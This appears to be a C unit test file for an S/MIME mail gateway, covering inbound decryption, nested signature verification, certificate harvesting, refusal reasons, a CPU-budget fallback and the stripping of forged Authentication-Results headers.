		[R_EFAIL_PART] = "inbound unsigned, encrypted part inside a multipart left closed (only a whole-message envelope is decrypted)",
		[R_ALTERED] = "inbound decrypted smime=fail (",
		[R_NOT_MIME] = "inbound decrypted, unsigned inside: nothing to harvest (decrypted content is not MIME",
		[R_OFF] = "inbound encrypted, not decrypted: decrypt = off",
		[R_RC2] = "inbound encrypted, not decrypted: unsupported algorithm: content cipher not available",
	};
	enum cfg_decrypt mode;
	struct buf m = refusal_message((enum refusal)_i, &mode);
	struct gw_result res;

	inbound(&m, "alice@org.example", mode, &res);
	SUMMARY_HAS(&res, why[_i]);
	SUMMARY_HAS(&res, "delivered as received");
	assert_untouched(&res);
	if (_i == R_ALTERED)
		SUMMARY_HAS(&res, "delivered as received: the signature inside does not verify");
	else
		ck_assert_msg(edit_of(&res, GW_HDR_INSERT_TOP, "Authentication-Results") == NULL,
		    "Authentication-Results for a message without a readable signature: %s",
		    res.nedits ? res.edits[res.nedits - 1].value : "");
	gw_result_free(&res);
	buf_free(&m);
}
END_TEST

/* Attachments are never opened. An old-style .p7m envelope attachment is
 * named as the encrypted part left closed; a signed .p7m attachment (a
 * forwarded signed message, say) is not called encrypted. */
START_TEST(p7m_attachments_stay_closed_and_are_named_for_what_they_are)
{
	static const enum ident alice = ALICE_RENEWED;
	static const struct {
		bool envelope;
		const char *summary;
	} cases[] = {
		{ true, "inbound unsigned, encrypted part inside a multipart left closed (only a "
		    "whole-message envelope is decrypted), delivered as received" },
		{ false, "inbound unsigned" },
	};
	struct buf clear = text(cleartext), der = BUF_INIT, m, body;
	struct gw_result res;
	char err[256];

	if (cases[_i].envelope)
		der = envelope_der(&alice, 1, SMIME_CIPHER_AES256_CBC, false, &clear);
	else
		ck_assert_int_eq(smime_sign(&id[BOB], NULL, false, clear.data, clear.len, &der, err,
		    sizeof(err)), SM_OK);
	body = text("Content-Type: multipart/mixed; boundary=\"att\"\r\n\r\n"
	    "--att\r\nContent-Type: text/plain\r\n\r\nsee attachment\r\n"
	    "--att\r\nContent-Type: application/octet-stream; name=\"message.p7m\"\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n");
	ck_assert_int_eq(mime_b64_encode(der.data, der.len, &body), SM_OK);
	buf_append_str(&body, "--att--\r\n");
	m = message(&body);
	inbound(&m, "alice@org.example", CFG_DECRYPT_DELIVER, &res);
	ck_assert_msg(strcmp(buf_cstr(&res.summary), cases[_i].summary) == 0,
	    "summary: got \"%s\", want \"%s\"", buf_cstr(&res.summary), cases[_i].summary);
	assert_untouched(&res);
	gw_result_free(&res);
	buf_free(&clear);
	buf_free(&der);
	buf_free(&body);
	buf_free(&m);
}
END_TEST

/* Opaque signed-data around a multipart/signed, both inside the envelope
 * ("nested once more"): both signatures are verified, the inner one is the
 * one over the content, and the content under both is delivered. */
START_TEST(a_signature_nested_once_more_is_verified_and_unwrapped)
{
	static const enum ident alice = ALICE_RENEWED;
	struct buf clear = text(cleartext), s1 = wrap_signed(BOB, true, &clear);
	struct buf s2 = wrap_signed(DAVE, false, &s1);
	struct buf e = wrap_encrypted(&alice, 1, SMIME_CIPHER_AES256_CBC, false, &s2);
	struct buf m = message(&e);
	struct gw_result res;
	const struct gw_hdr_edit *ar;

	inbound(&m, "alice@org.example", CFG_DECRYPT_DELIVER, &res);
	SUMMARY_HAS(&res, "inbound decrypted smime=pass outer smime=pass harvested bob@partner.example");
	/* dave's signature does not match From: judged, not harvested */
	SUMMARY_HAS(&res, "outer: not harvested bob@partner.example: no certificate address matches From");
	SUMMARY_HAS(&res, "[enveloped-data > signed-opaque > signed-detached > text/plain]");
	assert_delivered_cleartext(&res, cleartext);
	ar = edit_of(&res, GW_HDR_INSERT_TOP, "Authentication-Results");
	ck_assert_ptr_nonnull(ar);
	ck_assert_msg(strstr(ar->value, "; smime=pass (outer signature) body.smime-identifier=dave@partner.example") != NULL,
	    "Authentication-Results: got \"%s\"", ar->value);
	assert_results_pass_for(&res, "bob@partner.example");
	gw_result_free(&res);
	buf_free(&clear);
	buf_free(&s1);
	buf_free(&s2);
	buf_free(&e);
	buf_free(&m);
}
END_TEST

/* RFC 2634 triple wrap: a signature around the envelope, one inside. The
 * envelope is the whole content of a signature that is the whole message,
 * so it is opened. */
START_TEST(a_triple_wrapped_message_is_opened)
{
	static const enum ident alice = ALICE_RENEWED;
	struct buf clear = text(cleartext), s1 = wrap_signed(BOB, true, &clear);
	struct buf e = wrap_encrypted(&alice, 1, SMIME_CIPHER_AES128_CBC, false, &s1);
	struct buf s2 = wrap_signed(BOB, true, &e), m = message(&s2);
	struct gw_result res;

	inbound(&m, "alice@org.example", CFG_DECRYPT_DELIVER, &res);
	SUMMARY_HAS(&res, "inbound decrypted smime=pass outer smime=pass harvested bob@partner.example");
	/* the same certificate twice is stored once */
	ck_assert_uint_eq(count_of(buf_cstr(&res.summary), "harvested"), 1);
	SUMMARY_HAS(&res, "[signed-detached > enveloped-data > signed-detached > text/plain]");
	assert_delivered_cleartext(&res, cleartext);
	gw_result_free(&res);
	buf_free(&clear);
	buf_free(&s1);
	buf_free(&s2);
	buf_free(&e);
	buf_free(&m);
}
END_TEST

START_TEST(layers_deeper_than_the_bound_are_not_followed_or_delivered)
{
	static const enum ident alice = ALICE_RENEWED;
	struct buf clear = text(cleartext), s1 = wrap_signed(BOB, true, &clear);
	struct buf s2 = wrap_signed(BOB, false, &s1), s3 = wrap_signed(BOB, false, &s2);
	struct buf e = wrap_encrypted(&alice, 1, SMIME_CIPHER_AES256_CBC, false, &s3);
	struct buf m = message(&e);
	struct gw_result res;

	inbound(&m, "alice@org.example", CFG_DECRYPT_DELIVER, &res);
	SUMMARY_HAS(&res, "nested deeper than one envelope and two signatures: inner layers not examined");
	SUMMARY_HAS(&res, "delivered as received: nested deeper than one envelope and two signatures");
	ck_assert(!res.replace_body);
	gw_result_free(&res);
	buf_free(&clear);
	buf_free(&s1);
	buf_free(&s2);
	buf_free(&s3);
	buf_free(&e);
	buf_free(&m);
}
END_TEST

/* gpgsm --sign | gpgsm --encrypt: signed-data with no MIME around it. */
START_TEST(bare_signed_data_inside_an_envelope_is_verified)
{
	static const enum ident alice = ALICE;
	struct buf clear = text(cleartext), sig = BUF_INIT;
	struct buf e, m;
	struct gw_result res;
	char err[256];

	ck_assert_int_eq(smime_sign(&id[BOB], NULL, false, clear.data, clear.len, &sig, err,
	    sizeof(err)), SM_OK);
	e = wrap_encrypted(&alice, 1, SMIME_CIPHER_AES128_CBC, false, &sig);
	m = message(&e);
	inbound(&m, "alice@org.example", CFG_DECRYPT_DELIVER, &res);
	SUMMARY_HAS(&res, "inbound decrypted smime=pass harvested bob@partner.example");
	assert_delivered_cleartext(&res, cleartext);
	gw_result_free(&res);
	buf_free(&clear);
	buf_free(&sig);
	buf_free(&e);
	buf_free(&m);
}
END_TEST

/* Results with our authserv-id and decryption markers can only be forged:
 * removed, however they are dressed up; others' results stay. */
START_TEST(forged_results_and_markers_are_removed)
{
	struct buf clear = text(cleartext), s = wrap_signed(BOB, true, &clear);
	struct buf m = text("Authentication-Results: mx.test.example; smime=pass\r\n"
	    "Authentication-Results: (our gateway) MX.Test.Example 1; smime=pass\r\n"
	    "Authentication-Results: mx.partner.example; dkim=pass\r\n"
	    "Authentication-Results: mx.test.example.evil; smime=pass\r\n"
	    "X-SMIME-Decrypted: mx.test.example; enveloped-data opened by smime-milter\r\n"
	    "x-smime-decrypted: yes\r\n");
	struct gw_result res;
	size_t del_ar = 0, del_mark = 0;

	buf_append_str(&m, outer_headers);
	buf_append(&m, s.data, s.len);
	inbound(&m, "alice@org.example", CFG_DECRYPT_DELIVER, &res);
	for (size_t i = 0; i < res.nedits; i++) {
		if (res.edits[i].op != GW_HDR_DELETE)
			continue;
		if (strcasecmp(res.edits[i].name, "Authentication-Results") == 0) {
			ck_assert_msg(res.edits[i].index == 2 || res.edits[i].index == 1,
			    "deleted Authentication-Results #%d", res.edits[i].index);
			del_ar++;
		} else if (strcasecmp(res.edits[i].name, "X-SMIME-Decrypted") == 0) {
			del_mark++;
		}
	}
	ck_assert_uint_eq(del_ar, 2);
	ck_assert_uint_eq(del_mark, 2);
	/* a signed message is not decrypted, so no marker of ours either */
	ck_assert_ptr_null(edit_of(&res, GW_HDR_ADD, "X-SMIME-Decrypted"));
	assert_results_pass_for(&res, "bob@partner.example");
	gw_result_free(&res);
	buf_free(&clear);
	buf_free(&s);
	buf_free(&m);
}
END_TEST

/* The authserv-id is compared as a reader compares it: unquoted, without
 * a trailing dot, in any case. Each row is one Authentication-Results value
 * on an inbound message; want says whether it must be removed. */
static const struct {
	const char *value;
	bool want_removed;
} ar_rows[] = {
	{ "mx.test.example; smime=pass", true },
	{ "\"mx.test.example\"; smime=pass", true },
	{ "mx.test.example.; smime=pass", true },
	{ "\"mx.test.example.\"; smime=pass", true },
	{ "\"MX.Test.Example\" 1; smime=pass", true },
	{ "(c) \"mx.test\\.example\"; smime=pass", true },
	{ "\"mx.test.example; smime=pass", true },
	{ "MX.TEST.EXAMPLE.(x); smime=pass", true },
	{ "mx.test.example.evil; smime=pass", false },
	{ "\"mx.test.example.evil\"; smime=pass", false },
	{ "mx.test.example..; smime=pass", false },
	{ "\"x mx.test.example\"; smime=pass", false },
	{ "mx.partner.example; dkim=pass", false },
	{ "\"  \"; smime=pass", false },
	{ "\"   ", false },
	{ ".; smime=pass", false },
};

START_TEST(results_with_our_authserv_id_in_any_dress_are_removed)
{
	struct buf clear = text(cleartext), s = wrap_signed(BOB, true, &clear);
	struct buf m = text("Authentication-Results: ");
	struct gw_result res;
	size_t del = 0;

	buf_append_str(&m, ar_rows[_i].value);
	buf_append_str(&m, "\r\n");
	buf_append_str(&m, outer_headers);
	buf_append(&m, s.data, s.len);
	inbound(&m, "alice@org.example", CFG_DECRYPT_HARVEST, &res);
	for (size_t i = 0; i < res.nedits; i++)
		if (res.edits[i].op == GW_HDR_DELETE &&
		    strcasecmp(res.edits[i].name, "Authentication-Results") == 0)
			del++;
	ck_assert_msg(del == (ar_rows[_i].want_removed ? 1 : 0),
	    "Authentication-Results: %s: got %zu deletions, want %s",
	    ar_rows[_i].value, del, ar_rows[_i].want_removed ? "1" : "none");
	gw_result_free(&res);
	buf_free(&clear);
	buf_free(&s);
	buf_free(&m);
}
END_TEST

/* A fake CPU clock: every reading is 700 ms after the one before, so a
 * message passes the 2000 ms budget at its third reading whatever the
 * machine's speed. */
static uint64_t fake_cpu_now;
static uint64_t
fake_cpu(void)
{
	return fake_cpu_now += 700;
}

/* limits.inbound_cpu_ms: once spent, nothing is judged, harvested or
 * decrypted; the message passes as received with smime=temperror. */
START_TEST(a_message_past_its_cpu_budget_passes_unjudged)
{
	static const char want_ar[] = "mx.test.example; smime=temperror (CPU budget of 2000 ms "
	    "spent after ";
	struct buf m = signed_encrypted(BOB, true, ALICE, SMIME_CIPHER_AES256_CBC, false);
	const struct gw_hdr_edit *ar;
	struct gw_result res;

	cfg->inbound_cpu_ms = 2000;
	clock_cpu_set_hook(fake_cpu);
	inbound(&m, "alice@org.example", CFG_DECRYPT_DELIVER, &res);
	clock_cpu_set_hook(NULL);
	assert_untouched(&res);
	ar = edit_of(&res, GW_HDR_INSERT_TOP, "Authentication-Results");
	ck_assert_ptr_nonnull(ar);
	ck_assert_msg(strncmp(ar->value, want_ar, strlen(want_ar)) == 0, "got \"%s\", want "
	    "\"%s...\"", ar->value, want_ar);
	SUMMARY_HAS(&res, "inbound smime=temperror (CPU budget of 2000 ms spent after ");
	SUMMARY_HAS(&res, "), passed unjudged");
	gw_result_free(&res);
	/* the same message with the real clock: judged */
	inbound(&m, "alice@org.example", CFG_DECRYPT_DELIVER, &res);
	SUMMARY_HAS(&res, "smime=pass");
	gw_result_free(&res);
	buf_free(&m);
}
END_TEST

/* gw_examine reports the structure, for smimectl inspect. */
START_TEST(examine_reports_the_layers_and_the_inner_signer)
{
	struct buf m = signed_encrypted(BOB, false, ALICE_EXPIRED, SMIME_CIPHER_AES256_GCM, false);
	struct tmsg t;
	struct gw_report r;

	tmsg_load(&t, &m, "alice@org.example");
	ck_assert_int_eq(gw_examine(&env, &t.hdrs, t.m.body, t.m.body_len, true, &r), SM_OK);
	ck_assert(r.encrypted && r.decrypted && r.is_signed && r.sig_inside_envelope);
	ck_assert_int_eq(r.kind, MIME_SMIME_AUTH_ENVELOPED);
	ck_assert_int_eq(r.signed_kind, MIME_SMIME_SIGNED_OPAQUE);
	ck_assert_str_eq(r.structure, "authEnveloped-data > signed-opaque > text/plain");
	ck_assert_str_eq(gw_report_result(&r), "pass");
	ck_assert(r.judged && r.hv.harvest);
	ck_assert_str_eq(r.from, "bob@partner.example");
	ck_assert_int_eq(X509_cmp(r.vr.signer, id[BOB].cert), 0);
	gw_report_free(&r);
	/* without decryption: only the envelope */
	ck_assert_int_eq(gw_examine(&env, &t.hdrs, t.m.body, t.m.body_len, false, &r), SM_OK);
	ck_assert(r.encrypted && !r.decrypted && !r.have_vr);
	ck_assert_ptr_null(gw_report_result(&r));
	gw_report_free(&r);
	tmsg_free(&t);
	buf_free(&m);
}
END_TEST

static Suite *
gateway_suite(void)
{
	Suite *s = suite_create("gateway");
	TCase *tc = tcase_create("inbound decryption");

	tcase_set_timeout(tc, 120);
	tcase_add_unchecked_fixture(tc, suite_setup, suite_teardown);
	tcase_add_checked_fixture(tc, cache_setup, cache_teardown);
	tcase_add_loop_test(tc, harvest_mode_harvests_the_signer_and_leaves_the_message_alone, 0,
	    NROWS);
	tcase_add_loop_test(tc,
	    deliver_mode_delivers_the_canonical_cleartext_and_reports_its_signature, 0, NROWS);
	tcase_add_loop_test(tc, every_key_alice_ever_held_opens_her_mail, 0, 3);
	tcase_add_test(tc, an_internal_ec_key_opens_ecdh_mail);
	tcase_add_test(tc, a_renewed_partner_certificate_inside_encrypted_mail_supersedes_the_old_one);
	tcase_add_test(tc, several_internal_recipients_open_one_envelope_and_harvest_once);
	tcase_add_loop_test(tc, deliver_never_hands_plaintext_to_a_recipient_it_was_not_encrypted_to,
	    0, 4);
	tcase_add_loop_test(tc, refused_envelopes_are_delivered_as_received_with_the_reason, 0,
	    NREFUSALS);
	tcase_add_loop_test(tc, p7m_attachments_stay_closed_and_are_named_for_what_they_are, 0, 2);
	tcase_add_test(tc, a_signature_nested_once_more_is_verified_and_unwrapped);
	tcase_add_test(tc, a_triple_wrapped_message_is_opened);
	tcase_add_test(tc, layers_deeper_than_the_bound_are_not_followed_or_delivered);
	tcase_add_test(tc, bare_signed_data_inside_an_envelope_is_verified);
	tcase_add_test(tc, forged_results_and_markers_are_removed);
	tcase_add_loop_test(tc, deliver_only_within_the_authors_conversation, 0,
	    sizeof(author_rows) / sizeof(author_rows[0]));
	tcase_add_test(tc, a_message_past_its_cpu_budget_passes_unjudged);
	tcase_add_loop_test(tc, results_with_our_authserv_id_in_any_dress_are_removed, 0,
	    sizeof(ar_rows) / sizeof(ar_rows[0]));
	tcase_add_test(tc, examine_reports_the_layers_and_the_inner_signer);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return testutil_run(gateway_suite());
}
